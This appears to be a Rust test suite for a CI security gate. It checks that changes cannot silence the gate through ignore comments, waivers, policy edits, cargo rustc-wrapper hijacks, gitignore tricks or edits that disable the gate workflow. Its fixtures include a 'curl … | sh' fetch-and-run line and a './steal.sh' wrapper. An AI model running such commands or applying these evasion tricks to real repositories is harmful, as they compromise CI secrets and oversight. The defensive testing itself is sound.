//! No file content of a change can silence the gate that judges it: each way to try is a test.

#![allow(clippy::expect_used, clippy::panic, reason = "a test may insist")]

mod common;

use common::repo::{FETCHING, PUSHING, Repo, Seen, WORKFLOW, with};

/// A repository with something to protect, and a change that brings an attack together with what it tries.
fn attempt(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -> (Repo, Seen) {
    let repo = with(name, &[&[("README.md", "# app\n"), (WORKFLOW, PUSHING)][..], before].concat());
    for (path, text) in [(WORKFLOW, attack().as_str())].iter().chain(tries) {
        repo.write(path, text);
    }
    repo.commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    (repo, seen)
}

/// A step that runs what it downloads, beside a secret.
fn attack() -> String {
    format!("{PUSHING}      - run: curl -sSL https://example.com/install.sh | sh\n")
}

/// The change does not pass, and the attack stands there as something that it brings.
fn assert_told(seen: &Seen) {
    let told = seen.list(&["new", "changed", "needs-approval", "expired"]);
    assert!(told.iter().any(|line| line.ends_with(&format!("fetch-to-interpreter {WORKFLOW}"))), "{told:?}");
    assert_eq!(seen.code, 1, "{told:?}");
}

fn assert_in_vain(name: &str, before: &[(&str, &str)], tries: &[(&str, &str)]) -> Seen {
    let (_, seen) = attempt(name, before, tries);
    assert_told(&seen);
    seen
}

const WAIVER: &str = "[[waiver]]\nrule = \"fetch-to-interpreter\"\npath = \".github/**\"\nreason = \"we trust it\"\n\
                      owner = \"@example\"\nuntil = 2027-01-31\n";
const LOOSE: &str = "[gate.rule]\nfetch-to-interpreter = \"note\"\n";

#[test]
fn a_comment_that_the_change_brings_waits_for_approval() {
    let comment = "      # custody: ignore[fetch-to-interpreter] -- fine\n      - run: curl";
    let excused = attack().replace("      - run: curl", comment);
    let (repo, seen) = attempt("inline", &[], &[(WORKFLOW, &excused)]);
    assert_told(&seen);
    assert_eq!(seen.list(&["needs-approval"]), [format!("needs-approval fetch-to-interpreter {WORKFLOW}")]);
    let approvals = seen.audit["gate"]["approvals"].to_string();
    assert!(approvals.contains("\"line\":14") && approvals.contains(WORKFLOW), "{approvals}");
    // Once it is in the base it holds.
    repo.write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!((seen.list(&["needs-approval", "new"]).len(), seen.code), (0, 0));
    assert_eq!(seen.list(&["suppressed"]), [format!("suppressed fetch-to-interpreter {WORKFLOW}")]);
}

#[test]
fn a_waiver_that_the_change_brings_waits_for_approval() {
    let (repo, seen) = attempt("waiver", &[], &[("custody.toml", WAIVER)]);
    assert_told(&seen);
    assert_eq!(seen.list(&["needs-approval"]), [format!("needs-approval fetch-to-interpreter {WORKFLOW}")]);
    let approvals = seen.audit["gate"]["approvals"].to_string();
    assert!(approvals.contains("custody.toml") && approvals.contains("\"line\":1"), "{approvals}");
    repo.write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!((seen.list(&["needs-approval", "new"]).len(), seen.code), (0, 0));
}

#[test]
fn a_policy_that_the_change_edits_is_not_in_force() {
    assert_in_vain("looser", &[("custody.toml", "[gate]\n")], &[("custody.toml", LOOSE)]);
    assert_in_vain("new_policy", &[], &[("custody.toml", LOOSE)]);
    assert_in_vain("github_policy", &[], &[(".github/custody.toml", LOOSE)]);
    assert_in_vain(
        "tool_policy",
        &[],
        &[("pyproject.toml", "[tool.custody.gate.rule]\nfetch-to-interpreter = \"note\"\n")],
    );
    assert_in_vain("roles", &[], &[("custody.toml", "[roles]\n\".github/**\" = \"example\"\n")]);
}

#[test]
fn a_policy_that_the_change_removes_stays_in_force() {
    let strict = "[gate.rule]\nunpinned-base-image = \"block\"\n";
    let repo = with("removed_policy", &[("custody.toml", strict), ("Dockerfile", "FROM scratch\n")]);
    repo.remove("custody.toml").write("Dockerfile", "FROM debian:12\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    let blocks: Vec<&str> = seen.audit["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["decision"] == "block")
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(blocks.contains(&"unpinned-base-image"), "{blocks:?}");
}

#[test]
fn settings_of_cargo_and_rustup_run_nothing_and_silence_nothing() {
    let config = "[alias]\ncustody = \"run\"\naudit = \"run\"\n\n[build]\nrustc-wrapper = \"./steal.sh\"\n";
    let seen = assert_in_vain(
        "cargo_config",
        &[("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n"), ("src/lib.rs", "")],
        &[
            (".cargo/config.toml", config),
            ("rust-toolchain.toml", "[toolchain]\npath = \"/tmp/toolchain\"\n"),
            ("steal.sh", "#!/bin/sh\ntouch ran\n"),
        ],
    );
    let told = seen.list(&["new"]);
    assert!(told.iter().any(|line| line.ends_with(".cargo/config.toml")), "{told:?}");
    assert!(told.iter().any(|line| line.ends_with("rust-toolchain.toml")), "{told:?}");
}

#[test]
fn what_git_is_told_about_files_hides_none() {
    assert_in_vain("gitignore", &[], &[(".gitignore", ".github/\n*\n")]);
    assert_in_vain(
        "gitattributes",
        &[],
        &[(".gitattributes", "* export-ignore filter=lfs -diff binary linguist-generated eol=crlf\n")],
    );
}

#[test]
fn folders_for_examples_make_nothing_lighter() {
    for folder in ["examples", "tests/fixtures", "docs", "vendor/x", "benches", "third_party/x"] {
        let path = format!("{folder}/Dockerfile");
        let repo = with(&format!("aside_{}", folder.replace('/', "_")), &[("README.md", "# app\n")]);
        repo.write(&path, FETCHING).commit();
        let seen = repo.gate(&["--base", "HEAD^"]);
        assert_eq!(seen.list(&["new"]).iter().filter(|l| l.contains("fetch-to-interpreter")).count(), 1, "{folder}");
        let found = seen.audit["findings"].as_array().expect("findings").iter().find(|f| f["path"] == path.as_str());
        let found = found.expect("a finding");
        assert_eq!((&found["role"], &found["decision"]), (&"product".into(), &"advise".into()), "{folder}");
    }
}

#[test]
fn an_index_in_the_tree_is_not_used() {
    let seen = assert_in_vain(
        "index",
        &[],
        &[
            ("advisories-cache/index.table", "nothing"),
            (".cargo-custody/index", "nothing"),
            ("custody-index", "nothing"),
        ],
    );
    assert_eq!(seen.audit["knowledge"]["index"], "embedded");
}

#[test]
fn files_that_other_tools_are_told_to_ignore_by_count_from_the_base_only() {
    let lock = "version = 4\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"time\"]\n\
                [[package]]\nname = \"time\"\nversion = \"0.1.42\"\n\
                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\ntime = \"0.1\"\n";
    let deny = "[advisories]\nignore = [{ id = \"RUSTSEC-2020-0071\", reason = \"unused\" }]\n";
    let repo = with("deny", &[("README.md", "# app\n")]);
    repo.write("Cargo.toml", manifest).write("Cargo.lock", lock).write("deny.toml", deny).commit();
    let seen = repo.gate(&["--base", "HEAD^", "--honour-ignores"]);
    let told = seen.list(&["new", "needs-approval"]);
    assert!(told.iter().any(|line| line.contains("vulnerable-crate")), "{told:?}");
    repo.write("Cargo.lock", &lock.replace("0.1.0", "0.1.1")).write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^", "--honour-ignores"]);
    assert!(seen.list(&["suppressed"]).iter().any(|line| line.contains("vulnerable-crate")), "{:?}", seen.brought());
}

#[test]
fn a_lock_that_is_dropped_is_told() {
    let manifest = "[project]\nname = \"app\"\nversion = \"1\"\ndependencies = [\"flask\"]\n";
    let lock = "version = 1\nrequires-python = \">=3.12\"\n\n[[package]]\nname = \"app\"\nversion = \"1\"\n\
                source = { virtual = \".\" }\n";
    let repo = with("lock_gone", &[("pyproject.toml", manifest), ("uv.lock", lock)]);
    repo.remove("uv.lock").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    let told = seen.list(&["new"]);
    assert!(told.iter().any(|line| line.contains("lock-removed")), "{told:?}");
}

#[test]
fn a_file_that_is_broken_on_purpose_is_no_pass() {
    let repo = with("broken", &[(WORKFLOW, PUSHING)]);
    repo.write(WORKFLOW, &format!("{PUSHING}      - uses: [\n")).commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3);
    let repo = with("large", &[(WORKFLOW, PUSHING)]);
    repo.write(WORKFLOW, &format!("{PUSHING}#{}\n", "x".repeat(17 << 20))).commit();
    assert_eq!(repo.gate(&["--base", "HEAD^"]).code, 3, "too large to be read");
}

#[test]
fn edits_of_the_workflow_that_calls_us_are_told() {
    let calling = "\
name: custody
on: pull_request
permissions:
  contents: read
jobs:
  gate:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@0123456789012345678901234567890123456789 # v4
      - run: cargo-custody ci
";
    let path = ".github/workflows/custody.yml";
    for (name, text) in [
        ("off", calling.replace("      - run: cargo-custody ci\n", "      - run: 'true'\n")),
        ("tolerated", calling.replace("cargo-custody ci", "cargo-custody ci || true")),
        (
            "continue",
            calling.replace(
                "      - run: cargo-custody ci",
                "      - continue-on-error: true\n        run: cargo-custody ci",
            ),
        ),
        ("never", calling.replace("  gate:\n", "  gate:\n    if: false\n")),
        ("no_fail", calling.replace("cargo-custody ci", "cargo-custody ci --no-fail")),
        ("untriggered", calling.replace("on: pull_request", "on: workflow_dispatch")),
    ] {
        let repo = with(&format!("gate_{name}"), &[(path, calling)]);
        repo.write(path, &text).commit();
        let seen = repo.gate(&["--base", "HEAD^"]);
        let told = seen.list(&["new", "changed"]);
        assert!(told.iter().any(|line| line.contains("gate-edited")), "{name}: {told:?}");
        assert_eq!(seen.code, 1, "{name}: {told:?}");
    }
    let repo = with("gate_removed", &[(path, calling), (WORKFLOW, PUSHING)]);
    repo.remove(path).commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert!(seen.list(&["new"]).iter().any(|line| line.contains("gate-edited")), "{:?}", seen.brought());
    assert_eq!(seen.code, 1);
}

#[test]
fn malicious_code_is_excused_by_nothing_in_any_state() {
    let lock = "version = 4\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"rustdecimal\"]\n\
                [[package]]\nname = \"rustdecimal\"\nversion = \"1.23.1\"\n\
                source = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\n[dependencies]\nrustdecimal = \"1\"\n";
    let waiver = "[[waiver]]\nrule = \"malicious-crate\"\nreason = \"fine\"\nowner = \"@x\"\nuntil = 2027-01-31\n";
    let repo = with("malicious", &[("Cargo.toml", manifest), ("Cargo.lock", lock), ("custody.toml", waiver)]);
    repo.write("more.txt", "x\n").commit();
    let seen = repo.gate(&["--base", "HEAD^"]);
    assert_eq!(seen.code, 1, "it stood there before and it still attacks");
}
